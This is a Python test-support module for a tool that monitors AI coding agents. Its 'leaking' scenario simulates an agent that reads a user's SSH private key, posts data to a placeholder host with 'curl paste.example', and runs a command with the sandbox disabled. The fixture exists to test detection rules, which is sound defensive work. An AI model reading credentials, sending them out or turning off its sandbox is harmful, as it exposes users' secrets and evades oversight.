"""What an agent does that a guard is about, as short calls; and a store of it."""

from __future__ import annotations

from collections.abc import Sequence
from pathlib import Path
from typing import Any

from msgspec import Struct
from msgspec.structs import replace

from agentsight_rx.events import Event, FileEvent, HttpRequest, HttpResponse, TcpTraffic
from agentsight_rx.events.loss import Ledger
from agentsight_rx.policy.rules.guard.values import Rules
from agentsight_rx.runtime.testing.scene import Actor, Scene
from agentsight_rx.sinks import store
from agentsight_rx.view import Fold, Output

__all__ = ["KEY", "LABEL", "TOKEN", "WORKSPACE", "Chained", "Story", "leaking", "stored"]

WORKSPACE = "/home/ada/shop"
KEY = "/home/ada/.ssh/id_ed25519"
LABEL = "[redacted:private-key:0123abcd]"
TOKEN = "[redacted:github:4567abcd]"


class Chained(Struct):
    """A chain whose every member is known."""

    agent: str = "claude"
    workspace: str = "/home/ada/shop"
    tool_name: str = "Bash"
    tool_input: str = ""
    argv: str = "cat x"
    program: str = "cat"
    own: bool = False
    cost: float = 0.0
    tokens: int = 0
    calls: int = 0
    minutes: float = 0.0
    day_cost: float = 0.0
    agent_cost: float = 0.0
    agent_calls: int = 0

    def outside(self, path: str, /) -> bool:
        return not path.startswith(self.workspace)

    def came_by(self, path: str, /) -> bool:
        return False


class Story:
    """An agent in its workspace, that was asked for something."""

    def __init__(self, prompt: str = "deploy it", *, before: int = 0, cwd: str = WORKSPACE) -> None:
        self.scene = Scene()
        for _ in range(before):  # processes, so that pids and ids of sessions are others
            self.scene.process("init")
        self.agent = self.scene.process("claude", prompt, cwd=cwd)
        self.messages: list[dict[str, Any]] = [{"role": "user", "content": prompt}]
        self.tools = 0
        self.agent.asks(*self.messages)

    @property
    def events(self) -> list[Event]:
        return self.scene.events

    def tool(self, name: str, **said: object) -> None:
        """The model asks for a tool."""
        self.tools += 1
        self.agent.is_answered("I do it", tools={name: said})

    def result(self, text: str, *, failed: bool = False) -> HttpRequest:
        """What the tool gave is sent to the model."""
        id = f"toolu_{self.agent.pid}_{self.tools}"
        self.messages += [
            {"role": "assistant", "content": [{"type": "tool_use", "id": id, "name": "x", "input": {}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": id, "content": text, "is_error": failed}]},
        ]
        return self.agent.asks(*self.messages)

    def shell(self, command: str, *words: str) -> Actor:
        """A program of the command that the model asked for."""
        self.tool("Bash", command=command)
        return self.agent.starts("sh", "-c", command).starts(*words or command.split())

    def does(self, actor: Actor, action: str, path: str, **more: Any) -> FileEvent:
        origin = actor.origin()
        target: dict[str, Any] = {"target": f"{path}.new"} if action == "rename" else {}
        return self.scene.add(FileEvent(origin, actor.connection.start_ns, action, path, **target, **more))

    def sends(self, actor: Actor, host: str, body: bytes = b"", size: int = 1800) -> HttpRequest:
        head = (("host", host),)
        origin = actor.origin(actor.connection)
        return self.scene.add(
            HttpRequest(origin, 1, "POST", "/upload", "HTTP/1.1", head, body, size=size, end_ns=origin.time_ns)
        )

    def is_answered(self, actor: Actor, host: str) -> HttpResponse:
        """The actor asked the host for something, and got it."""
        self.sends(actor, host)
        origin = replace(actor.origin(actor.connection), direction="in")
        return self.scene.add(
            HttpResponse(
                origin, 1, 200, "OK", "HTTP/1.1", (), method="POST", target="/upload", host=host, end_ns=origin.time_ns
            )
        )

    def carries(self, actor: Actor, peer: str, port: int = 443, sent: int = 1800) -> TcpTraffic:
        return self.scene.add(TcpTraffic(actor.origin(), actor.connection.start_ns, 7, peer, port, sent, 20))


def leaking(*, before: int = 0) -> Story:
    """An agent that reads a key for a tool, sends a part of it to its model, and speaks to a new host."""
    story = Story(before=before)
    story.does(story.shell(f"head -c 9 {KEY}", "head", "-c", "9", KEY), "open", KEY)
    story.result(f"it says {LABEL}")
    story.sends(story.shell("curl paste.example"), "paste.example")
    story.result("sent")
    story.tool("Bash", command="make", dangerouslyDisableSandbox=True)
    return story


def stored(path: Path, events: Sequence[Event], rules: Rules | None = None) -> Path:
    """A store with the events, and the alerts of these rules."""
    ledger, fold, items = Ledger(), Fold(rules), list[Output]()
    ledger.begin()
    for event in events:
        items += [event, *fold.add(event)]
    writer = store(path).open(ledger)
    writer.write([*items, *fold.finish()])
    writer.close()
    return path
